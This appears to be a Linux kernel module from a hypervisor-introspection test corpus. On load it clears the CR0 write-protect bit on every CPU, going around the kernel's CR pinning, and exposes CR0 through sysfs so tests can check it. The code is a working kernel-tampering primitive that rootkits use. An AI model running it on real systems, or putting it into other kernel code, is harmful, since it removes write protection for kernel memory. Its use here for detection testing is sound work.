// SPDX-License-Identifier: GPL-2.0
/* Attack: clear CR0.WP on every CPU with a raw mov (bypassing the kernel's CR pinning) and
 * leave it clear until unload. Reading /sys/module/hvi_cr0_wp/parameters/cr0 prints CR0 of the
 * CPU the reader runs on and whether WP is set there (guest-side evidence for the tests). */
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/smp.h>
#include "attack_common.h"

static void wp_off(void *unused)
{
	hvi_attack_write_cr0_raw(hvi_attack_read_cr0() & ~X86_CR0_WP);
}

static void wp_on(void *unused)
{
	hvi_attack_write_cr0_raw(hvi_attack_read_cr0() | X86_CR0_WP);
}

static int cr0_get(char *buf, const struct kernel_param *kp)
{
	unsigned long v = hvi_attack_read_cr0();

	return scnprintf(buf, PAGE_SIZE, "cpu %d cr0 %lx wp %s\n", raw_smp_processor_id(), v,
			 (v & X86_CR0_WP) ? "set" : "clear");
}

static const struct kernel_param_ops cr0_ops = { .get = cr0_get };
module_param_cb(cr0, &cr0_ops, NULL, 0444);

static int __init attack_init(void)
{
	on_each_cpu(wp_off, NULL, 1);
	pr_info("hvi-attack: CR0.WP cleared (cr0=%lx)\n", hvi_attack_read_cr0());
	return 0;
}

static void __exit attack_exit(void)
{
	on_each_cpu(wp_on, NULL, 1);
	pr_info("hvi-attack: CR0.WP restored\n");
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvi test corpus: CR0.WP clear");
